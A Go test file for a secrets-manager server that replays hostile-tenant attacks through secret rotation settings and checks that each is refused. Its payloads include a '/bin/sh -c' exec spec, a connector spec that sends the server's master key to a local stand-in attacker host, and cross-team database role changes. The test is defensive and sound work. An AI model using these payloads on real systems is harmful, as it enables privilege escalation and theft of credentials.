package server_test

import (
	"context"
	"crypto/tls"
	"crypto/x509"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"

	"github.com/passman-dev/passman/audit"
	"github.com/passman-dev/passman/core"
	"github.com/passman-dev/passman/internal/pgtest"
	"github.com/passman-dev/passman/secret"
	"github.com/passman-dev/passman/server"
	"github.com/passman-dev/passman/server/servertest"
)

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// tenantsPolicy: a token's team (claim team) may read, write and list
// under its own prefix; its lead (claim role=lead) may also configure
// rotation there; a root token (role=root) may do everything.
const tenantsPolicy = `package passman.authz

allow if {
	input.subject.kind == "token"
	input.subject.claims.role == "root"
}

mine if startswith(input.path, sprintf("%s/", [input.subject.claims.team]))

allow if {
	input.subject.kind == "token"
	input.action in {"read", "write", "list"}
	mine
}

allow if {
	input.subject.kind == "token"
	input.action == "list"
	object.get(input, "path", "") == ""
}

allow if {
	input.subject.kind == "token"
	input.subject.claims.role == "lead"
	input.action == "configure_rotation"
	mine
}
`

// attackerHost stands in for a tenant's own HTTPS host: it records what
// reaches it.
type attackerHost struct {
	*httptest.Server
	mu   sync.Mutex
	seen []string
}

func newAttackerHost(t *testing.T) *attackerHost {
	a := &attackerHost{}
	a.Server = httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		a.mu.Lock()
		a.seen = append(a.seen, r.Method+" "+r.URL.Path+" auth="+r.Header.Get("Authorization"))
		a.mu.Unlock()
		w.WriteHeader(http.StatusOK)
	}))
	t.Cleanup(a.Close)
	return a
}

func (a *attackerHost) requests() []string {
	a.mu.Lock()
	defer a.mu.Unlock()
	return append([]string(nil), a.seen...)
}

// tenantServer is a real passman server (server.Run, no exec programs)
// over a store with two teams, a real PostgreSQL whose admin DSN only the
// server's environment holds, and an operator's connection for team-a.
type tenantServer struct {
	hostileTarget
	tokens     map[string]string
	pg         *pgtest.Server
	roleA      string
	roleB      string
	masterEnv  string
	execMarker string
}

const (
	tenantPwA = "team-a-initial-password-1"
	tenantPwB = "team-b-initial-password-1"
)

func newTenantServer(t *testing.T) *tenantServer {
	t.Helper()
	ctx := context.Background()
	pg := pgtest.Start(t)
	ts := &tenantServer{tokens: map[string]string{}, pg: pg, roleA: pgtest.Name("team_a_app"), roleB: pgtest.Name("team_b_app"),
		masterEnv: "master-key-canary-7f3e", execMarker: filepath.Join(t.TempDir(), "OUT")}
	pg.Exec(t, "CREATE ROLE "+ts.roleA+" LOGIN PASSWORD '"+tenantPwA+"'")
	pg.Exec(t, "CREATE ROLE "+ts.roleB+" LOGIN PASSWORD '"+tenantPwB+"'")

	dir := t.TempDir()
	polDir := filepath.Join(dir, "policies")
	must(t, os.MkdirAll(polDir, 0o700))
	must(t, os.WriteFile(filepath.Join(polDir, "tenants.rego"), []byte(tenantsPolicy), 0o600))
	opts := core.Options{Dir: filepath.Join(dir, "store"), Actor: "admin", AuditSync: audit.SyncWrite, PolicyDir: polDir}
	_, err := core.Init(ctx, opts)
	must(t, err)
	l, err := core.Open(ctx, opts)
	must(t, err)
	for p, v := range map[string]string{"team-a/app/y": "team-a app value", "team-a/db/password": tenantPwA, "team-b/db/password": tenantPwB, "ops/gh-token": "ghp_operator_token_canary_19"} {
		_, err := l.Put(ctx, p, secret.NewValue([]byte(v)), secret.PutOptions{})
		must(t, err)
	}
	for _, c := range []secret.Connection{
		{Name: "pg-a", Connector: "postgres", Config: map[string]string{"admin_dsn": "env:PG_ADMIN_DSN"}, AllowedPaths: []string{"team-a/*"}, AllowedRoles: []string{"team_a_app_*"}},
		{Name: "gh-a", Connector: "github", Config: map[string]string{"token": "secret:ops/gh-token", "owner": "acme", "repo": "app"}, AllowedPaths: []string{"team-a/ci/*"}},
	} {
		_, err := l.PutConnection(ctx, c)
		must(t, err)
	}
	for name, claims := range map[string]map[string]string{
		"root":      {"role": "root"},
		"a-dev":     {"team": "team-a", "role": "dev"},
		"a-lead":    {"team": "team-a", "role": "lead"},
		"b-dev":     {"team": "team-b", "role": "dev"},
		"read-only": {"team": "nobody", "role": "dev"},
	} {
		tok, _, err := l.CreateToken(ctx, secret.TokenRequest{Identity: name, Claims: claims})
		must(t, err)
		ts.tokens[name] = tok
	}
	must(t, l.Close())

	cert, key := filepath.Join(dir, "cert.pem"), filepath.Join(dir, "key.pem")
	must(t, server.WriteSelfSigned(cert, key, []string{"127.0.0.1"}, time.Hour))
	buf := &servertest.Buffer{}
	env := map[string]string{"PG_ADMIN_DSN": pg.AdminDSN(), "PASSMAN_MASTER_KEY": ts.masterEnv}
	cfg := server.Config{Store: opts, TLSCertFile: cert, TLSKeyFile: key, Getenv: func(k string) string { return env[k] }}
	cfg.Logger = slog.New(slog.NewJSONHandler(buf, &slog.HandlerOptions{Level: slog.LevelDebug}))
	s, stop := runServer(t, cfg)
	t.Cleanup(func() { _ = stop() })
	pem, err := os.ReadFile(cert)
	must(t, err)
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(pem)
	tlsCfg := &tls.Config{RootCAs: pool, MinVersion: tls.VersionTLS12}
	ts.hostileTarget = hostileTarget{url: s.URL, hc: &http.Client{Transport: &http.Transport{TLSClientConfig: tlsCfg}, Timeout: 30 * time.Second}, log: buf.Bytes, tls: tlsCfg}
	return ts
}

// as sends a request with the named token.
func (ts *tenantServer) as(t *testing.T, who, method, target, body string) result {
	t.Helper()
	hdr := http.Header{"Authorization": {"Bearer " + ts.tokens[who]}, "Content-Type": {"application/json"}}
	var r result
	if body == "" {
		r = ts.do(t, method, target, hdr, nil)
	} else {
		r = ts.do(t, method, target, hdr, strings.NewReader(body))
	}
	return r
}

func (ts *tenantServer) pgLogin(t *testing.T, role, pw string) bool {
	t.Helper()
	cfg, err := pgx.ParseConfig(ts.pg.DSN(role, pw))
	must(t, err)
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	conn, err := pgx.ConnectConfig(ctx, cfg)
	if err != nil {
		return false
	}
	conn.Close(ctx)
	return true
}

// TestHostileTenantRotation replays, over HTTP against a real server, each
// way a tenant allowed only to read and write its own secrets used a
// secret's rotation settings to make the server act with its privileges.
// Every attempt is refused before any side effect: no program runs, the
// attacker's host hears nothing, no other team's database role changes,
// and no answer or log line holds the server's credentials.
func TestHostileTenantRotation(t *testing.T) {
	t.Parallel()
	ts := newTenantServer(t)
	atk := newAttackerHost(t)
	var all []result
	refused := func(who, method, target, body string, want ...int) {
		t.Helper()
		r := ts.as(t, who, method, target, body)
		all = append(all, r)
		for _, w := range want {
			if r.status == w {
				return
			}
		}
		t.Errorf("%s %s %s as %s: %d %s, want one of %v", method, target, body, who, r.status, r.body, want)
	}

	// 1. exec: a program of the tenant's own, set and run through its
	// secret's metadata; also through a connection of its own, which only
	// an admin may make, and which this server (no exec_programs) refuses
	// to anyone.
	execSpec := `{"rotation":{"connector":"exec","config":{"command":"/bin/sh","args":"[\"-c\",\"id > ` + ts.execMarker + `\"]"}}}`
	refused("a-dev", "PATCH", "/v1/metadata/team-a/app/y", execSpec, 400, 403)
	refused("a-lead", "PATCH", "/v1/metadata/team-a/app/y", execSpec, 400)
	refused("a-lead", "PUT", "/v1/connections/mine", `{"connector":"exec","config":{"command":"/bin/sh"},"allowed_paths":["team-a/*"]}`, 403)
	refused("root", "PUT", "/v1/connections/run", `{"connector":"exec","config":{"command":"/bin/sh"},"allowed_paths":["team-a/*"]}`, 400)
	refused("a-dev", "POST", "/v1/rotate/team-a/app/y", `{}`, 400, 403)

	// 2. github: the server's master key as bearer token, to the tenant's
	// own API host.
	ghSpec := `{"rotation":{"connection":"gh-a","params":{"name":"X","token":"env:PASSMAN_MASTER_KEY","api_url":"` + atk.URL + `"}}}`
	refused("a-dev", "PATCH", "/v1/metadata/team-a/ci/token", ghSpec, 403)
	refused("a-lead", "PATCH", "/v1/metadata/team-a/ci/token", ghSpec, 400)
	legacyGH := `{"rotation":{"connector":"github","config":{"name":"X","token":"env:PASSMAN_MASTER_KEY","api_url":"` + atk.URL + `","owner":"evil","repo":"x"}}}`
	refused("a-lead", "PATCH", "/v1/metadata/team-a/ci/token", legacyGH, 400)

	// 3. postgres: the operator's admin DSN on team-b's role.
	refused("a-dev", "PATCH", "/v1/metadata/team-a/db/password", `{"rotation":{"connection":"pg-a","params":{"role":"`+ts.roleB+`"}}}`, 403)
	refused("a-lead", "PATCH", "/v1/metadata/team-a/db/password", `{"rotation":{"connection":"pg-a","params":{"role":"`+ts.roleB+`"}}}`, 403)
	refused("a-lead", "PATCH", "/v1/metadata/team-a/db/password", `{"rotation":{"connection":"pg-a","params":{"role":"`+ts.roleA+`","admin_dsn":"env:PG_ADMIN_DSN"}}}`, 400)
	refused("b-dev", "PATCH", "/v1/metadata/team-b/db/password", `{"rotation":{"connection":"pg-a","params":{"role":"`+ts.roleB+`"}}}`, 403)
	refused("a-lead", "PATCH", "/v1/metadata/team-b/db/password", `{"rotation":{"connection":"pg-a","params":{"role":"`+ts.roleA+`"}}}`, 403)

	// 4. another team's password as the token a connector sends.
	refused("a-lead", "PATCH", "/v1/metadata/team-a/ci/token", `{"rotation":{"connection":"gh-a","params":{"name":"X","token":"secret:team-b/db/password"}}}`, 400)

	// A lead configures a legitimate spec; a writer still cannot rotate
	// it (no rotate), and a read-only caller's rotate-due revokes nothing.
	if r := ts.as(t, "a-lead", "PATCH", "/v1/metadata/team-a/db/password", `{"rotation":{"connection":"pg-a","params":{"role":"`+ts.roleA+`"}}}`); r.status != 200 {
		t.Fatalf("lead's legitimate spec: %d %s", r.status, r.body)
	}
	refused("a-dev", "POST", "/v1/rotate/team-a/db/password", `{}`, 403)
	refused("a-dev", "PATCH", "/v1/metadata/team-a/db/password", `{"rotation_status":{"state":"succeeded","revoke_version":1,"revoke_after":"2000-01-01T00:00:00Z","started_at":"2000-01-01T00:00:00Z"}}`, 403)
	if r := ts.as(t, "read-only", "POST", "/v1/rotate-due", `{}`); r.status != 200 || strings.Contains(string(r.body), `"revoked"`) {
		t.Errorf("rotate-due by a read-only caller: %d %s", r.status, r.body)
	}

	// The operator's routine rotate-due acts only as the operator
	// configured: nothing reaches the attacker.
	if r := ts.as(t, "root", "POST", "/v1/rotate-due", `{}`); r.status != 200 {
		t.Errorf("operator's rotate-due: %d %s", r.status, r.body)
	}

	if _, err := os.Stat(ts.execMarker); !os.IsNotExist(err) {
		t.Errorf("the tenant's program ran: %v", err)
	}
	if got := atk.requests(); len(got) != 0 {
		t.Errorf("the attacker's host was reached: %q", got)
	}
	if !ts.pgLogin(t, ts.roleB, tenantPwB) || !ts.pgLogin(t, ts.roleA, tenantPwA) {
		t.Error("a database role's password changed")
	}
	for _, canary := range []string{ts.masterEnv, "ghp_operator_token_canary_19", tenantPwB, ts.pg.AdminDSN()} {
		for i, r := range all {
			if strings.Contains(string(r.body), canary) {
				t.Errorf("answer %d holds %q: %s", i, canary, r.body)
			}
		}
		if strings.Contains(string(ts.log()), canary) {
			t.Errorf("the server log holds %q", canary)
		}
	}
}
